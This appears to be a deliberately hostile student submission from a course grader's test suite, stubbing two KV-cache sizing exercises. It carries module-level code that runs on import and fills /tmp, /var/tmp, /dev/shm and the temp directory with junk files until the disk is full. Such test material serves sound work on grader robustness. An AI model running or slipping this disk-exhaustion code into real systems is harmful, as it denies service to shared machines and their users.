"""An attack on the classroom grader (tests/grader/test_attacks.py): it must score 0."""

from __future__ import annotations

import torch

import os
import tempfile

# Fill /tmp (and the private temp folder) with files, one of them as large as it can get.
for folder in ("/tmp", "/var/tmp", "/dev/shm", tempfile.gettempdir()):
    for index in range(50):
        try:
            with open(os.path.join(folder, f"kvcourse-attack-fill-{index}"), "wb") as out:
                out.write(os.urandom(1 << 20))
        except OSError:
            pass
try:
    with open("/tmp/kvcourse-attack-fill-huge", "wb") as out:
        while True:
            out.write(b"x" * (1 << 20))
except OSError:
    pass


def kv_bytes_per_token(config, dtype: torch.dtype) -> int:
    raise NotImplementedError("Exercise 0.1 (KV bytes per token): not written yet")


def max_sequences(memory_bytes: int, seq_len: int, bytes_per_token: int) -> int:
    raise NotImplementedError("Exercise 0.2 (Sequences that fit in a memory budget): not written yet")

